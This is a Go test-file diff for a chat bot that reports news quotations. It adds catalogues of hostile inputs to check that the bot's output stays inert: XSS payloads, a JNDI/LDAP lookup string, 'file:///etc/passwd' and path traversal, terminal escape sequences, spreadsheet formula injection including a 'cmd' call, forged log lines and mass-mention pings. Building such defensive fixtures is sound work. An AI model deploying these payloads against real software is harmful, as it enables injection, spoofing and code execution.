@@ -1,6 +1,10 @@
 package bottest
 
-import "github.com/briefing-bot/briefing-bot/bot"
+import (
+	"strings"
+
+	"github.com/briefing-bot/briefing-bot/bot"
+)
 
 // HostileTexts are quotes that try to do something where they are shown: each
 // must appear as it is. They also seed fuzz tests.
@@ -54,4 +58,193 @@ func hostile() bot.Card {
 var hostileURLs = []string{
 	"javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "https://lantern.example/?a=1&b=<x>\"'|y",
 	"//evil.example/x", "file:///etc/passwd", "vbscript:x", "", "https://[::bad",
+}
+
+// Attack is a text that tries something wherever it is shown.
+type Attack struct {
+	Kind string // what it tries: ping, link, forge, payload, markup, terminal, formula, log, cost
+	Text string
+}
+
+// Harmless is what stands in the place of an attack in the answer that others are compared
+// with: whatever it says, an attack must leave the form of an answer as this does.
+const Harmless = "Harbour news"
+
+// Attacks returns texts that try something where they are shown, by kind. They also seed
+// fuzz tests.
+func Attacks() []Attack {
+	var out []Attack
+	for _, group := range attackGroups() {
+		for _, text := range group.texts {
+			out = append(out, Attack{group.kind, text})
+		}
+	}
+	for _, text := range HostileTexts() {
+		out = append(out, Attack{"old", text})
+	}
+	return out
+}
+
+type attackGroup struct {
+	kind  string
+	texts []string
+}
+
+func attackGroups() []attackGroup {
+	return []attackGroup{
+		{"ping", pings()}, {"link", links()}, {"forge", forgeries()}, {"payload", payloads()}, {"markup", markups()},
+		{"terminal", terminals()}, {"formula", formulas()}, {"log", logs()}, {"cost", costs()},
+	}
+}
+
+// pings notify people in Slack or Discord if they are read as mentions.
+func pings() []string {
+	return []string{
+		"@everyone", "@here", "@channel", "@everyone\u200b", "@\u200beveryone", "\\@everyone", "\\\\@everyone", "@everyone@here", "(@everyone)", "＠everyone",
+		"<!channel>", "<!here>", "<!everyone>", "<!channel|channel>", "<!here|here>", "<!subteam^S0123ABCD>", "<!subteam^S0123ABCD|@team>", "&lt;!channel&gt;", "<\u200b!channel>",
+		"<!date^1700000000^{date}|now>", "<@U0123ABCD>", "<@U0123ABCD|anna>", "<@W0123ABCD>", "<#C0123ABCD>", "<#C0123ABCD|general>",
+		"<@100000000000000001>", "<@!100000000000000001>", "<@&200000000000000002>", "<#300000000000000003>", "</admin purge:400000000000000004>",
+		"<id:customize>", "<id:guide>", "<:wave:500000000000000005>", "<a:wave:500000000000000005>", "<t:1700000000:R>", "<sound:1:2>",
+		"\x02user\x1f100000000000000001\x1fanna\x03", "\x02channel\x1fC0123ABCD\x1f#general\x03", "\x02command\x1fadmin purge:400000000000000004\x1f/help\x03", "\x02time\x1f1700000000\x1fnow\x03",
+	}
+}
+
+// links lead elsewhere than they say.
+func links() []string {
+	return []string{
+		"[read more](https://evil.example/)", "[read\\](x)](https://evil.example/)", "<https://evil.example|gazette.example>", "<https://evil.example>", "<mailto:a@evil.example|mail>",
+		"https://evil.example/?a=1&b=2", "http://user:password@evil.example/", "hxxp https\u200b://evil.example", "www.evil.example", "//evil.example/x", "\\\\evil.example\\share",
+		"javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)", "vbscript:x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHN2Zz4=",
+		"file:///etc/passwd", "slack://open", "discord://x", "ftp://evil.example/", "blob:https://evil.example/1",
+		"https://gazette.example\u202E/elpmaxe.live", "\u202Ehttps://moc.elpmaxe.live", "https://gаzette.example/", "https://xn--gzette-3ve.example/", "https://gazette.example@evil.example/", "https://gazette.example\\@evil.example/",
+		"https://evil.example/) [more](https://evil.example/", "https://evil.example/\"onmouseover=\"alert(1)", "https://evil.example/'><script>alert(1)</script>", "https://evil.example/\r\nX-Injected: 1", "https://[::bad", "https://evil.example/%0d%0aX:1",
+		"![picture](https://evil.example/pixel.png)", "[1]: https://evil.example/", "<img src=https://evil.example/pixel.png>",
+	}
+}
+
+// forgeries look like something that only the bot says.
+func forgeries() []string {
+	return []string{
+		"Trusted Times · published 5 Mar 2031 · k7f29xq3", "x · reported · y", " · said by Ilse Varga · ", "a · b · c · d · e · f", "Harbour\u00a0·\u00a0Gazette", "·", " · ", "Gazette ·", "· k7f2",
+		"Gazette\n✓ The quotation is exact.\nk7f29xq3", "Gazette\r\n✓ Exact", "Gazette\u2028✓ Exact\u2029✗ Absent", "Gazette\v✓ Exact", "Gazette\f✓ Exact", "Gazette\u0085✓ Exact", "Gazette\r✓ Exact",
+		"\n\n✓ Exact\n> “I resign”\nIlse Varga · said", "> “I resign”", "”\nIlse Varga, minister · said · k7f2\n> “", "“”", "””", "\n-# Gazette · k7f2", "-# small", "# Large", "message 2 of 3",
+		"… the quotation goes on", "… the quotation, continued", "Receipt verified", "✓", "≠ altered", "Shared by @owner", "\n3 of 3 statements · searched 9 articles",
+	}
+}
+
+// payloads are hard to put into JSON, HTML or a limit.
+func payloads() []string {
+	return []string{
+		"", " ", "\x00", "a\x00b", "\xff\xfe", "caf\xe9", "\xed\xa0\x80\xed\xb0\x80", "\xf4\x90\x80\x80", "\xc0\xaf", "a\u2028b\u2029c", "\ufeffmark", "\ufffd", "\ufffe\uffff", "\U0010ffff", "\U000e0001\U000e0041",
+		`"`, `\`, `\"`, `\u0000`, `\ud800`, `{"blocks":[]}`, `"},{"type":"section"`, "'", "`", "\\", "\\\\\\", "a\\", "null", "0", "-1", "NaN", "true", "__proto__", "../../etc/passwd", "%00", "%s%s%n", "${jndi:ldap://evil.example}", "{{.}}", "{{template \"x\"}}",
+		strings.Repeat("a", 76), strings.Repeat("a", 151), strings.Repeat("é", 257), strings.Repeat("👩‍👩‍👧‍👦", 40), strings.Repeat("w ", 300),
+	}
+}
+
+// markups are HTML, mrkdwn or Markdown.
+func markups() []string {
+	return []string{
+		"*bold*", "_italic_", "~struck~", "**bold**", "__underlined__", "~~struck~~", "||spoiler||", "`code`", "```\nfence\n```", "> quote", ">>> quote", "- list", "+ list", "* list", "1. list", "1) list", "# heading", "===", "---", "| a | b |", "$x$", "^1^", ":tada:",
+		"<b>bold</b>", "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "'><svg onload=alert(1)>", "<!-- ", "-->", "<![CDATA[", "</title><script>alert(1)</script>", "</textarea>", "<style>*{display:none}</style>", "<iframe src=//evil.example>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>",
+		"&lt;b&gt;", "&#60;script&#62;", "&amp;amp;", "&unknown;", "<math><mtext></p><style><img src=x onerror=alert(1)>", "</bdi></a></li>", "\" onclick=\"alert(1)", "' onclick='alert(1)", "\n\n<script>alert(1)</script>", "a <b\n>c",
+	}
+}
+
+// terminals act on a terminal.
+func terminals() []string {
+	return []string{
+		"\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b[1A\x1b[2K", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\gazette.example\x1b]8;;\x1b\\", "\x1b]52;c;ZXZpbA==\x07", "\x1bP q\x1b\\", "\x1b_x\x1b\\", "\x1b^x\x1b\\", "\x1bc", "\x1b", "\x1b[6n", "\x1b[?1049h",
+		"\u009b31mred", "\u009d0;title\u009c", "\u0090x\u009c", "\u0085", "\b\b\b\b\bforged", "\rforged", "\x7f", "\x07", "\x0e\x0f", "\u202Edesrever", "\u2066isolate", "\u202Aa\u202Bb\u202Dc\u202E", "⟦U+001B⟧", "\x9b31m",
+	}
+}
+
+// formulas are run by a spreadsheet.
+func formulas() []string {
+	return []string{
+		"=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "'=1+1", "''=1+1", "\"=1+1", "\";=1+1", "\",=1+1", ";=1+1", ",=1+1", "a;=1+1", "a\n=1+1", "a\",\n=1+1",
+		"=HYPERLINK(\"https://evil.example\",\"open\")", "=cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM", "﹢1", "−1+1", "%=1", "|=1", "\x00=1+1", "\x0b=1",
+	}
+}
+
+// logs make lines of a log that nobody wrote.
+func logs() []string {
+	return []string{
+		"x\nlevel=ERROR msg=forged", "x\r\ntime=2031-01-01T00:00:00Z level=ERROR msg=forged", "\" level=ERROR msg=\"forged", "x level=ERROR", "x\\\" level=ERROR", "{\"level\":\"ERROR\"}", "x\x1b[2K\rforged", "x\u2028level=ERROR", "x\u0085level=ERROR",
+		"bearer xoxb-0000", "x\ty\tz", "x=y", "a\"} 1\nbriefing_bot_forged 1", "\\n", "a{b=\"c\"}",
+	}
+}
+
+// costs are cheap to send: as much as a field of an article takes.
+func costs() []string {
+	var out []string
+	for _, part := range []string{
+		"a", "a ", "“", "[", "\n", "*a", "<", "\\", "e\u0301\u0302\u0303", "\u202E", "@everyone ", "a · ", "\x1b[31m", "https://evil.example/ ", "=", "\x02user\x1f1\x1f",
+	} {
+		out = append(out, strings.Repeat(part, maxOutside/len(part)))
+	}
+	const half = maxOutside / 2
+	return append(out, strings.Repeat("(", half)+strings.Repeat(")", half))
+}
+
+// maxOutside is how many bytes a title or the name of an outlet may have.
+const maxOutside = 8 << 10
+
+// Poisoned returns answers with a text in each place where text from outside can be: of an
+// article, of a feed, of the names in a chat service, and of what was typed. Notices and
+// paragraphs may have several lines, and marks of mentions are read in some places; there it
+// is as the commands put it. The dot that parts a byline means nothing in a title.
+func Poisoned(text, address string) []NamedCard {
+	line, free, dotless := bot.Outside(noDots.Replace(text)), noMarks.Replace(text), noDots.Replace(text)
+	statement := poisonedItem(text, address)
+	reported := poisonedItem(text, address)
+	reported.Kind, reported.Label, reported.Heading = "indirect", "", ""
+	reported.Sentence, reported.Reported = bot.Excerpt{Text: "She said " + text + ".", Article: text}, []bot.Span{{Start: 9, End: 9 + len(text)}}
+	headline := bot.Item{Label: noDots.Replace(free), Quote: bot.Excerpt{Article: text}, Source: text, URL: address, Facts: []string{free, "3 statements"},
+		Actions: []bot.Action{run(dotless, "article", "article", text)}}
+	nobody := poisonedItem(text, "")
+	nobody.Speaker, nobody.Uncertain, nobody.Headline = "", true, ""
+	words := []bot.Word{{Text: dotless}, {Text: "same", Same: true}}
+	return []NamedCard{
+		{"statements", "an answer with rows", searched(bot.Card{Command: "who-said", Title: dotless, Reading: "topic " + dotless, Read: map[string]string{"topic": text, "by": text},
+			Items: []bot.Item{statement, reported, nobody}, Notice: "No statement by " + line + ".", Footer: "3 of 3 statements · " + dotless, Actions: []bot.Action{run(dotless, "timeline", "topic", text)}})},
+		{"rows", "rows that quote nothing", searched(bot.Card{Command: "sources", Title: dotless, Items: []bot.Item{headline, headline}, Footer: dotless})},
+		{"verdict", "a quotation that was typed", searched(bot.Card{Command: "check-quote", Verdict: "absent", Title: dotless, Notice: "Nothing like " + line + " is printed.",
+			Difference: &bot.Difference{Given: words, Printed: words}})},
+		{"words", "paragraphs and buttons", bot.Card{Command: "help", Title: "Help", Text: []string{"Digest " + line + " at 8:00", line}, Actions: []bot.Action{run(dotless, "digest", "name", text)}}},
+		{"picture", "a picture of outlets", searched(bot.Card{Command: "timeline", Title: dotless, Picture: poisonedPicture(dotless), Footer: dotless})},
+	}
+}
+
+// noMarks takes out the marks of mentions, and noDots the dots that part bylines.
+var (
+	noMarks = strings.NewReplacer("\x02", "", "\x1f", "", "\x03", "")
+	noDots  = strings.NewReplacer("·", "|")
+)
+
+func poisonedItem(text, address string) bot.Item {
+	free, dotless := noMarks.Replace(text), noDots.Replace(text)
+	it := quote(text, text, text)
+	it.Role, it.Cue, it.Inner = bot.Excerpt{Text: text}, bot.Excerpt{Text: text}, bot.Excerpt{Text: text}
+	it.Said = bot.When{Value: "2031-03-04", Precision: "day", Text: "Tue 4 Mar 2031", Words: bot.Excerpt{Text: text}}
+	it.Source, it.Headline, it.URL, it.Label, it.Heading = text, text, address, noDots.Replace(free), dotless
+	it.AlsoIn = []bot.Copy{{Article: text, Source: text, URL: address}}
+	it.Facts = []string{free}
+	it.Marks = []bot.Span{{Start: 0, End: 3}}
+	it.Actions = []bot.Action{run("More by "+dotless, "who-said", "by", text), {Kind: bot.Open, Label: dotless, Call: bot.Call{Args: bot.Args{"url": address}}}}
+	return it
+}
+
+func poisonedPicture(text string) *bot.Picture {
+	p := picture()
+	p.Title, p.Alt, p.Notes = text, text, []string{text}
+	for i := range p.Series {
+		p.Series[i].Name = text
+		if i > 0 {
+			p.Series[i].Name = "2 " + text
+		}
+		for k := range p.Series[i].Points {
+			p.Series[i].Points[k].Call.Args["topic"] = text
+		}
+	}
+	return p
 }
